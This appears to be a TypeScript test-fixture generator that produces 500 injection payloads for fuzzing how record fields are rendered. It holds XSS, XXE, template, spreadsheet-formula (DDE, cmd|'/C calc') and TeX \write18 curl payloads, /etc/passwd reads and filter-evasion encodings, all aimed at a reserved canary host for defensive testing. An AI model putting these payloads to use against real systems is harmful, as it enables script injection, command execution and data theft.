/*
 * Texts that would run, ask somebody for something or calculate, wherever they were taken for more than text: 500 of
 * them, each different, grown from what attacks are made of: what is to run, where it finds itself, how it is written.
 */

/** What every payload that can run sets on the global object. */
export const canaryGlobal = 'coteriePwned';

/** Whom every payload that can ask asks; the name is reserved and answers nobody (RFC 2606). */
export const canaryHost = 'canary.invalid';

type PayloadKind =
  | 'markup'
  | 'attribute'
  | 'address'
  | 'style'
  | 'xml'
  | 'template'
  | 'script'
  | 'formula'
  | 'tex'
  | 'record'
  | 'letters';

export interface Payload {
  readonly kind: PayloadKind;
  readonly text: string;
}

const address = `https://${canaryHost}/`;
/** Without a blank, a comma or a quotation mark, so that it fits everywhere. */
const run = `globalThis.${canaryGlobal}=1|fetch(\`${address}\`)`;
const page = `<script>${run}</script>`;
const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`;
const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** What is to run, or to ask. */
const vectors = [
  page,
  `<script src=${address}></script>`,
  `<script type=module>import"${address}"</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=${address}>`,
  `<img srcset="${address} 1x">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${address}"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="${page.replaceAll('"', '&quot;')}"></iframe></foreignObject></svg>`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="20">x</text></a></svg>`,
  `<svg><set onbegin="${run}" attributeName="x" to="1"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,${base64(drawing)}#x"/></svg>`,
  `<svg><image href="${address}"/></svg>`,
  `<svg><style>@import "${address}";</style></svg>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src=${address}></iframe>`,
  `<object data="data:text/html;base64,${base64(page)}"></object>`,
  `<object data=${address}></object>`,
  `<embed src="data:image/svg+xml;base64,${base64(drawing)}">`,
  `<embed src=${address}>`,
  `<link rel=stylesheet href=${address}>`,
  `<link rel="icon prefetch preconnect dns-prefetch" href=${address}>`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href=${address}>`,
  `<form action="javascript:${run}"><input autofocus onfocus=form.submit()></form>`,
  `<form action=${address}><button formaction="javascript:${run}">x</button></form>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video src=x onerror=${run}></video>`,
  `<audio><source src=${address} onerror=${run}></audio>`,
  `<body onload=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
  `<a href=x ping=${address} onpointerenter=${run}>x</a>`,
  `<math><maction actiontype="statusline#${address}" xlink:href="javascript:${run}">x</maction></math>`,
  `<math href="javascript:${run}"><mi>x</mi></math>`,
  `<style>@import url(${address});</style>`,
  `<p style="background:url(${address})">x</p>`,
  `<p style="animation:spin 1s" onanimationstart=${run}>x</p>`,
  `<table background=${address}><td>x</td></table>`,
  `<div popover id=x onbeforetoggle=${run}></div><button popovertarget=x>x</button>`,
  `<template shadowrootmode=open>${page}</template>`,
  `<frameset onload=${run}>`,
] as const;

/** Where it finds itself, and must get out of. */
const contexts: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `">${inner}`,
  (inner) => `'>${inner}`,
  (inner) => `\`>${inner}`,
  (inner) => `</title>${inner}`,
  (inner) => `</style>${inner}`,
  (inner) => `</script>${inner}`,
  (inner) => `</textarea>${inner}`,
  (inner) => `</noscript></template></select>${inner}`,
  (inner) => `</metadata></desc></svg>${inner}`,
  (inner) => `</text><!-- -->${inner}`,
  (inner) => `-->${inner}<!--`,
  (inner) => `--!>${inner}`,
  (inner) => `<!--><script>${inner}`,
  (inner) => `]]>${inner}<![CDATA[`,
  (inner) => `<![CDATA[${inner}]]>`,
  (inner) => `?>${inner}<?x `,
  (inner) => `"}]}</script>${inner}`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
];

const references = (text: string, of: (code: number) => string): string =>
  text.replaceAll(/[<>"'=]/g, (sign) => of(sign.codePointAt(0)!));
const inHex = (code: number, digits: number): string => code.toString(16).padStart(digits, '0');
const alternating = (text: string): string =>
  text.replaceAll(/(?<=<\/?)[a-z]+/gi, (name) =>
    Array.from(name)
      .map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter))
      .join(''),
  );

/** How it is written, so that it passes whoever looks for something else. */
const spellings: readonly ((text: string) => string)[] = [
  alternating,
  (text) => references(text, (code) => `&#${code};`),
  (text) => references(text, (code) => `&#x${inHex(code, 7)}`),
  (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => references(text, (code) => `%${inHex(code, 2)}`),
  (text) => references(text, (code) => `%25${inHex(code, 2)}`),
  (text) => references(text, (code) => `\\u${inHex(code, 4)}`),
  (text) => references(text, (code) => `\\x${inHex(code, 2)}`),
  (text) => references(text, (code) => `\\${code.toString(8)}`),
  (text) => references(text, (code) => String.fromCodePoint(code + 0xfee0)),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '\u00c0\u00bc').replaceAll('>', '\u00c0\u00be'),
  (text) => text.replaceAll(' ', '\n'),
  (text) => text.replaceAll(' ', '\f'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replace('<', '<<'),
  (text) => text.replace(/>$/, ''),
  (text) => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
];

const events = [
  'onmouseover',
  'onfocus',
  'onclick',
  'onload',
  'onerror',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
];
const attributes = [
  ...events.flatMap((event) => [`" ${event}="${run}`, `' ${event}='${run}`, `x ${event}=${run} `]),
  `\` onmouseover=\`${run}`,
  `" autofocus tabindex=1 onfocus="${run}" x="`,
  `" style="background:url(${address})" x="`,
  `" src="${address}" onerror="${run}`,
  `" href="javascript:${run}" x="`,
  `"\u00a0onmouseover="${run}`,
  `\\" onmouseover=\\"${run}`,
];

const addresses = [
  `javascript:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `JaVaScRiPt:${run}`,
  `javascript\u0000:${run}`,
  `&#106;avascript:${run}`,
  `javascript&colon;${run}`,
  `javascript&#x3a;${run}`,
  `javascript:/*--></title></style></textarea></script>*/${run}`,
  `javascript://${canaryHost}/%0a${run}`,
  `vbscript:CreateObject("WScript.Shell").Run("calc")`,
  `data:text/html,${page}`,
  `data:text/html;base64,${base64(page)}`,
  `data:image/svg+xml,${drawing}`,
  `//${canaryHost}/`,
  `\\\\${canaryHost}\\share`,
  `https:\\\\${canaryHost}`,
  `https://doi.org@${canaryHost}/`,
  `https://doi.org.${canaryHost}/`,
  `file://${canaryHost}/etc/passwd`,
  `blob:https://${canaryHost}/x`,
  `../../${canaryHost}`,
];
const links: readonly ((to: string) => string)[] = [
  (to) => to,
  (to) => `10.1000/${to}`,
  (to) => `[x](${to})`,
  (to) => `![x](${to})`,
  (to) => `<${to}>`,
];

const styles = [
  `x;background:url(${address})`,
  `}*{background:url(${address})}`,
  `@import "${address}";`,
  `expression(${run})`,
  `-moz-binding:url(${address}#x)`,
  `behavior:url(${address})`,
  `url("data:image/svg+xml,${drawing.replaceAll('"', "'")}")`,
  `\\75 rl(${address})`,
  `red;}@font-face{font-family:x;src:url(${address})}`,
  `</style ><img src=${address}>`,
];

const xml = [
  `<!DOCTYPE x [<!ENTITY e SYSTEM "${address}">]><x>&e;</x>`,
  `<!DOCTYPE x [<!ENTITY % e SYSTEM "file:///etc/passwd"> %e;]>`,
  '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><x>&b;&b;</x>',
  `<?xml-stylesheet href="${address}"?>`,
  `<?xml-stylesheet type="text/xsl" href="data:text/xml,${page}"?>`,
  `<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${address}"/></x>`,
  `<html xmlns="http://www.w3.org/1999/xhtml">${page}</html>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  '&nosuchentity; &lt &#0; &#xD800; &#x110000;',
  '&amp;amp;lt;b&amp;amp;gt;',
  ']]&gt;]]>',
  '--><!-- -- -->',
];

const templates = [
  `{{constructor.constructor("${run}")()}}`,
  `{{${run}}}`,
  `{{{${run}}}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{% ${run} %}`,
  `[[${run}]]`,
  `$& $\` $' $1 $$ $<x>`,
  '%s %n %x %d %p',
  '{0} {1} {name}',
  '__proto__',
  'constructor',
  `{"__proto__":{"${canaryGlobal}":1}}`,
  'toString',
  'hasOwnProperty',
];

const scripts = [
  `";${run};//`,
  `';${run};//`,
  `\`;${run};//`,
  `\\";${run};//`,
  `\u2028${run}\u2029`,
  `\n${run}\n`,
  `</script ><script>${run}//`,
  `<!--<script>${run}`,
  `*/${run}/*`,
  `\\u0022;${run}//`,
  `"}],"x":[{"y":"`,
  `);${run};(`,
  `\\`,
  `\\u003cscript>${run}\\u003c/script>`,
  `#v=2&select=%3Cscript%3E${run}`,
];

const signs = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  ' =',
  '\u00a0=',
  '\u200b=',
  '"=',
];
const formulas = [
  ...signs.map((sign) => `${sign}1+1`),
  ...signs.slice(0, 11).map((sign) => `${sign}HYPERLINK("${address}?"&A1,"x")`),
  ...signs.slice(0, 6).map((sign) => `${sign}cmd|'/C calc'!A0`),
  `=WEBSERVICE("${address}")`,
  `=IMPORTXML(CONCAT("${address}?",A1:B9),"//a")`,
  `=IMPORTDATA("${address}")`,
  `=IMAGE("${address}")`,
  `=DDE("cmd","/C calc","x")`,
  `=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  ...[';', '\t', '|', '\n', '\r\n', '; ', '","', '";', '"\n"', "','"].map((end) => `a${end}=1+1`),
  "'=1+1",
  "''=1+1",
  'sep=;',
  'ID;P=1+1',
  '-2+3+cmd|x!A0',
];

const tex = [
  '\\input{|"curl canary.invalid"}',
  '\\input{/etc/passwd}',
  '\\include{/etc/passwd}',
  '\\immediate\\write18{curl canary.invalid}',
  '\\openin5=/etc/passwd',
  `\\href{javascript:${run}}{x}`,
  `\\url{${address}}`,
  `\\includegraphics{${address}}`,
  '\\catcode`\\%=0 %input{x}',
  '\\def\\x{\\x\\x}\\x',
  '\\end{document}',
  '} @article{y, title={z}}',
  '"}, note = {x',
  '@preamble{"\\write18{x}"}',
  '@string{x = "y"}',
  '@comment{',
  '{{{{',
  '}}}}',
  '% the rest is gone',
  '$x_{1}^{2}$ & \\\\ # ~',
  '\\verb|x| \\csname end\\endcsname',
  'a # b # "c"',
  'and and others and',
];

const records = [
  '\r\nER  - \r\nTY  - JOUR\r\nTI  - x',
  '\nTY  - JOUR',
  'ER  -',
  '\n\nPT J\nAU x\nER',
  '*Vertices 2\n1 "x"',
  '\n*Edges\n1 2',
  '"\n*Arcs\n1 1 1',
  '1 "x" 0.5 0.5 [1-*]',
  '\\"x\\"',
  '\nid,label\n1,=1+1',
  'a,b;c\td',
  '"unclosed',
  'quote " within',
  '""',
  'a\u0000b',
  '\u001b]0;x\u0007\u001b[31m',
  '\u001a',
  '\u0008\u0008\u0008\u007f',
  'x\u0085y\u000bz\u000c',
  'node [ id 1 label "x" ]',
];

const letters = [
  `\u202e${run}\u202c`,
  `\u2066\u202e<script>\u2069`,
  `moc.${canaryHost}\u202e//:sptth`,
  '\u200f\u200e\u061c\u202a\u202b\u202d',
  'a\u200bb\u200cc\u200dd\u2060e\ufefff',
  '\uff1cscript\uff1e\uff41\uff1c/script\uff1e',
  '\u02bacript\u02ba \u2032x\u2032 \u275dx\u275e',
  '\u0130\u0131\u017f\u212a\u1e9e',
  '\u{e0041}\u{e0042}\u{e007f}',
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
  `e${'\u0301'.repeat(60)}`,
  `Z${'\u0335\u0321\u0352\u035b\u0344'.repeat(30)}`,
  '\ufdfd\u{12031}\u2e3b',
  'W'.repeat(300),
  '\u4e2d'.repeat(200),
  'x-'.repeat(150),
  '\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b> abc',
  '\u05e2\u05d1\u05e8\u05d9\u05ea "123" =1',
  '\ufffe\uffff\ufdd0',
  '\ufffd\ufffc',
  '\u2028\u2029\u0085',
  '\u3164\u115f\u1160\uffa0',
  '\u00ad\u034f\u180e',
  '\ud83d',
  '\udc00x',
];

const families: readonly (readonly [kind: PayloadKind, texts: readonly string[]])[] = [
  ['attribute', attributes],
  ['address', links.flatMap((link, way) => addresses.filter((_, at) => way < 2 || at % 4 === way % 4).map(link))],
  ['style', styles],
  ['xml', xml],
  ['template', templates],
  ['script', scripts],
  ['formula', formulas],
  ['tex', tex],
  ['record', records],
  ['letters', letters],
];

/** Every vector bare, then in one context after the other and in one spelling after the other. */
function* markups(): Generator<string> {
  yield* vectors;
  for (let round = 1; ; round++) {
    for (const [at, vector] of vectors.entries()) {
      yield contexts[(at * 5 + round) % contexts.length]!(vector);
      yield spellings[(at * 3 + round) % spellings.length]!(vector);
    }
  }
}

const wanted = 500;

function grown(): readonly Payload[] {
  const found = new Map<string, Payload>();
  for (const [kind, texts] of families) for (const text of texts) found.set(text, { kind, text });
  for (const text of markups()) {
    if (found.size === wanted) break;
    if (!found.has(text)) found.set(text, { kind: 'markup', text });
  }
  return [...found.values()];
}

/** All of them, in an order that puts different kinds side by side. */
export const payloads: readonly Payload[] = grown().map((_, at, all) => all[(at * 211) % all.length]!);

/** The payload that stands in a field of a record: over all records, each of them is in each field. */
export const payloadAt = (record: number, field = 0): string => payloads[(record + 37 * field) % payloads.length]!.text;

/** The payloads of a record, field by field as they are asked for. */
export function fieldsOf(record: number): () => string {
  let field = 0;
  return () => payloadAt(record, field++);
}
